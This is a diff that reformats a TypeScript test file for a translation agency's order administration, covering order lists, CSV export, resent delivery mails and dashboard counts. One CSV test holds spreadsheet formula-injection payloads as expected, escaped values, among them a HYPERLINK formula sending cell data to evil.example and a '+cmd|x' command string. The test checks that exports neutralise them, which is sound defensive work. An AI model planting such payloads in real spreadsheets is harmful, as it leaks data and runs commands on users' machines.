@@ -1,7 +1,13 @@
 import { and, eq, like } from 'drizzle-orm'
 import { describe, expect, test } from 'vitest'
 import { auditEvents, orderEvents, orderFiles, orders } from '#database/schema.ts'
-import { exportOrdersCsv, findOrderForStaff, listOrders, ORDERS_PAGE_SIZE, OrderFilterSchema } from '#app/models/order/admin.server.ts'
+import {
+	exportOrdersCsv,
+	findOrderForStaff,
+	listOrders,
+	ORDERS_PAGE_SIZE,
+	OrderFilterSchema,
+} from '#app/models/order/admin.server.ts'
 import { changeOrderStatus, OrderRefused, resendDeliveryMail } from '#app/models/order/lifecycle.server.ts'
 import { findOrderForCustomer, takeDownload } from '#app/models/order/order.server.ts'
 import { copiesOfOrder, deliverableOrder, setupOrderTests } from '#tests/setup/orders.ts'
@@ -12,7 +18,8 @@ import { addWorkingDays, type CalendarDate } from '#app/models/calendar/working-
 // sent again, and the customer's downloads; the models as the admin routes call them.
 const { db, mails, services, staff } = setupOrderTests()
 
-const filter = (values: Record<string, string> = {}) => OrderFilterSchema.parse({ status: 'open', pair: '', translator: '', q: '', ...values })
+const filter = (values: Record<string, string> = {}) =>
+	OrderFilterSchema.parse({ status: 'open', pair: '', translator: '', q: '', ...values })
 async function csvLines(rows: AsyncGenerator<string>) {
 	let csv = ''
 	for await (const chunk of rows) csv += chunk
@@ -34,13 +41,17 @@ describe('the order list', () => {
 		expect((await listOrders(db(), listFilter, first.pageCount + 1)).orders).toEqual([])
 
 		const [header, ...rows] = await csvLines(exportOrdersCsv(db(), listFilter))
-		expect(header).toBe('reference;status;due_date;working_days_left;customer;email;languages;translator;total_excl_vat')
+		expect(header).toBe(
+			'reference;status;due_date;working_days_left;customer;email;languages;translator;total_excl_vat',
+		)
 		expect(rows).toHaveLength(620)
 		const references = rows.map((row) => row.split(';')[0]!)
 		expect(new Set(references).size).toBe(620)
 		const dueDates = rows.map((row) => row.split(';')[2]!)
 		expect(dueDates).toEqual([...dueDates].sort())
-		expect(rows[0]).toMatch(/^LIST-\d{5};in_progress;\d{4}-\d{2}-\d{2};-?\d+;Ida Holm;ida@example\.dk;da → en;;\d+\.\d{2}$/)
+		expect(rows[0]).toMatch(
+			/^LIST-\d{5};in_progress;\d{4}-\d{2}-\d{2};-?\d+;Ida Holm;ida@example\.dk;da → en;;\d+\.\d{2}$/,
+		)
 	})
 })
 
@@ -57,7 +68,16 @@ describe('the CSV export and formulas', () => {
 		}
 		const rows = await csvLines(exportOrdersCsv(db(), filter({ q: 'FORMULA-' })))
 		const customers = rows.slice(1).map((row) => row.split(';')[4]!)
-		expect(customers.sort()).toEqual(["'+cmd|x", "'-2+3", "'=1+2", '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"', "'@SUM(A1)", "'\tTAB"].sort())
+		expect(customers.sort()).toEqual(
+			[
+				"'+cmd|x",
+				"'-2+3",
+				"'=1+2",
+				'"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"',
+				"'@SUM(A1)",
+				"'\tTAB",
+			].sort(),
+		)
 		for (const row of rows.slice(1)) expect(row).toMatch(/;-?\d+;.*;\d+\.\d{2}$/)
 	})
 })
@@ -79,14 +99,20 @@ describe('the delivery mail', () => {
 			['ida@example.dk', `Faktura for ordre ${order.reference}`],
 		])
 		expect(mails[3]!.attachments?.[0]?.filename).toBe(`invoice-${invoice!.number}.pdf`)
-		const noted = await db().select().from(orderEvents).where(and(eq(orderEvents.orderId, order.id), eq(orderEvents.kind, 'mail')))
+		const noted = await db()
+			.select()
+			.from(orderEvents)
+			.where(and(eq(orderEvents.orderId, order.id), eq(orderEvents.kind, 'mail')))
 		expect(noted.map((event) => [event.body, event.internal, event.userName])).toEqual([
 			['ida@example.dk', true, 'Sara Staff'],
 			['ida@example.dk', true, 'Sara Staff'],
 		])
 		const customerHistory = (await findOrderForCustomer(db(), order.token))!.history
 		expect(customerHistory.map((event) => event.kind)).toEqual(['status', 'status', 'status'])
-		const audit = await db().select().from(auditEvents).where(eq(auditEvents.subjectId, String(order.id)))
+		const audit = await db()
+			.select()
+			.from(auditEvents)
+			.where(eq(auditEvents.subjectId, String(order.id)))
 		expect(audit.map((event) => event.summary)).toContain(`Order ${order.reference}: delivery mail sent again`)
 
 		await changeOrderStatus(services(), staff, order.id, 'cancelled')
@@ -119,8 +145,19 @@ describe("the dashboard's orders", () => {
 		await copiesOfOrder(db(), base.id, 6, 'DUE')
 		// The order they were copied from is due long after.
 		await db().update(orders).set({ dueDate: '2031-12-31' }).where(eq(orders.id, base.id))
-		const dates = ['2031-03-03', '2031-02-20', '2031-03-04', addWorkingDays(today, 1), addWorkingDays(today, 2), '2031-03-04']
-		for (const [index, dueDate] of dates.entries()) await db().update(orders).set({ dueDate }).where(eq(orders.reference, `DUE-0000${index}`))
+		const dates = [
+			'2031-03-03',
+			'2031-02-20',
+			'2031-03-04',
+			addWorkingDays(today, 1),
+			addWorkingDays(today, 2),
+			'2031-03-04',
+		]
+		for (const [index, dueDate] of dates.entries())
+			await db()
+				.update(orders)
+				.set({ dueDate })
+				.where(eq(orders.reference, `DUE-0000${index}`))
 		// One of those due today is delivered already: not work to do.
 		await db().update(orders).set({ status: 'delivered' }).where(eq(orders.reference, 'DUE-00005'))
 		const after = await countTodaysWork(db(), today)
